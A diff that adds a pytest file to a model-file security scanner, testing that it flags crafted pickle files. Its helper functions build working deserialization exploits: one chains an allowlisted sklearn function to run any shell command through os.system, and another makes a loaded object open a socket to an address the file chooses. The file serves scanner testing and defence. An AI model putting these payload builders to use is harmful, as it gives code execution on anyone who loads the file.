@@ -1,0 +1,121 @@
+"""Red-team bypasses: files a real loader executes that an earlier scanner passed.
+
+Each payload here was loaded once by the real loader (pickle.load / joblib.load / torch.load) in a
+sandboxed child process with an audit hook (no network, throwaway directory, dangerous events recorded
+and blocked) and reached the event named in its test; see docs/scan.md "Red-team bypasses". The tests
+judge the files by the scanner only: a PASS under `--fail-on high` is the defect.
+"""
+
+from __future__ import annotations
+
+import struct
+from pathlib import Path
+
+import pytest
+
+from modelwarden.model import Severity
+from modelwarden.scan import scan_paths
+
+_HIGH = (Severity.HIGH, Severity.CRITICAL)
+
+
+def _global(module: str, name: str) -> bytes:
+    return f"c{module}\n{name}\n".encode()  # GLOBAL
+
+
+def _text(value: str) -> bytes:
+    raw = value.encode()
+    return b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE
+
+
+def _put(i: int) -> bytes:
+    return b"q" + bytes([i])  # BINPUT
+
+
+def _get(i: int) -> bytes:
+    return b"h" + bytes([i])  # BINGET
+
+
+def _blocking(tmp_path: Path, data: bytes, name: str = "model.pkl") -> list[str]:
+    """Rule ids of the high or critical findings on `data` saved as `name` (what fails --fail-on high)."""
+    path = tmp_path / name
+    path.write_bytes(data)
+    report = scan_paths([path], hash_files=False)
+    return [f.rule_id for f in report.findings if f.severity in _HIGH]
+
+
+# ------------------------------------------------------------------------------------------------------
+# 1. An allowlisted *function* called at load time. sklearn.metrics._scorer._cached_call(cache,
+#    estimator, name, X) is `cache[name]` or `getattr(estimator, name)(X)`: a getattr-and-call primitive.
+#    Chained with BUILD on call results (a bound method forwards its __dict__ to the function, a module
+#    takes attributes) it reaches os.system. pickle.load ran os.system("echo PWNED > pwned.txt").
+# ------------------------------------------------------------------------------------------------------
+
+
+def _cached_call(cache: bytes, estimator: bytes, *args: bytes) -> bytes:
+    return _global("sklearn.metrics._scorer", "_cached_call") + b"(" + cache + estimator + b"".join(args) + b"tR"
+
+
+def _tagged(obj: bytes) -> bytes:
+    # BUILD {'__sklearn_tags__': <memo 1>}: sklearn's is_classifier() then accepts the object.
+    return obj + b"}" + _text("__sklearn_tags__") + _get(1) + b"sb"
+
+
+def cached_call_chain(command: str) -> bytes:
+    none = b"N"
+    ops = b"\x80\x02"
+    ops += _global("sklearn.dummy", "DummyRegressor") + b")\x81" + _put(0) + b"0"
+    ops += _cached_call(none, _get(0), _text("__getattribute__"), _text("__sklearn_tags__")) + _put(1) + b"0"
+    bound = _cached_call(none, _get(0), _text("__getattribute__"), _text("get_params"))
+    ops += _tagged(bound) + _put(2) + b"0"
+    ops += _cached_call(none, _get(2), _text("__getattribute__"), _text("__globals__")) + _put(3) + b"0"
+    ops += _tagged(_cached_call(_get(3), none, _text("platform"))) + _put(4) + b"0"
+    ops += _tagged(_cached_call(none, _get(4), _text("__getattribute__"), _text("os"))) + _put(5) + b"0"
+    ops += _cached_call(none, _get(5), _text("system"), _text(command))
+    return ops + b"."
+
+
+@pytest.mark.parametrize("name", ["model.pkl", "model.joblib"])
+def test_allowlisted_function_called_at_load_is_high(tmp_path: Path, name: str) -> None:
+    assert _blocking(tmp_path, cached_call_chain("echo PWNED > pwned.txt"), name)
+
+
+def test_library_function_called_with_no_arguments_is_high(tmp_path: Path) -> None:
+    # Legitimate pickles name library functions as values (a scorer's score_func); none calls one.
+    data = b"\x80\x02" + _global("sklearn.metrics._classification", "accuracy_score") + b")R."
+    assert "pickle.call-of-value" in _blocking(tmp_path, data)
+
+
+def test_library_function_stored_as_a_value_still_passes(tmp_path: Path) -> None:
+    import pickle
+
+    import sklearn.metrics
+
+    data = pickle.dumps({"score_func": sklearn.metrics.accuracy_score}, protocol=4)
+    assert _blocking(tmp_path, data) == []
+
+
+# ------------------------------------------------------------------------------------------------------
+# 2. A class whose __setstate__ reaches the network through a module-level helper. sklearn's
+#    ScoringMonitor.__setstate__ calls can_reuse_listener(handle), which opens
+#    multiprocessing.connection.Client(handle.address) — an address the file chooses — and then
+#    open_listener() binds a socket. pickle.load created a socket to 10.1.2.3:80 (blocked by the hook).
+#    The generator only followed calls on `self`; the helper is a module function.
+# ------------------------------------------------------------------------------------------------------
+
+
+def scoring_monitor(host: str, port: int) -> bytes:
+    handle = (
+        _global("sklearn.callback._transport", "ListenerHandle")
+        + b"("
+        + _text(host)
+        + b"M"
+        + struct.pack("<H", port)
+        + b"\x86C\x04abcdt\x81"  # NEWOBJ ListenerHandle((host, port), b"abcd")
+    )
+    state = b"}" + _text("_listener_handle") + handle + b"s" + _text("_log") + b"]s"
+    return b"\x80\x02" + _global("sklearn.callback._scoring_monitor", "ScoringMonitor") + b")\x81" + state + b"b."
+
+
+def test_setstate_reaching_a_socket_through_a_module_helper_is_high(tmp_path: Path) -> None:
+    assert _blocking(tmp_path, scoring_monitor("10.1.2.3", 80))
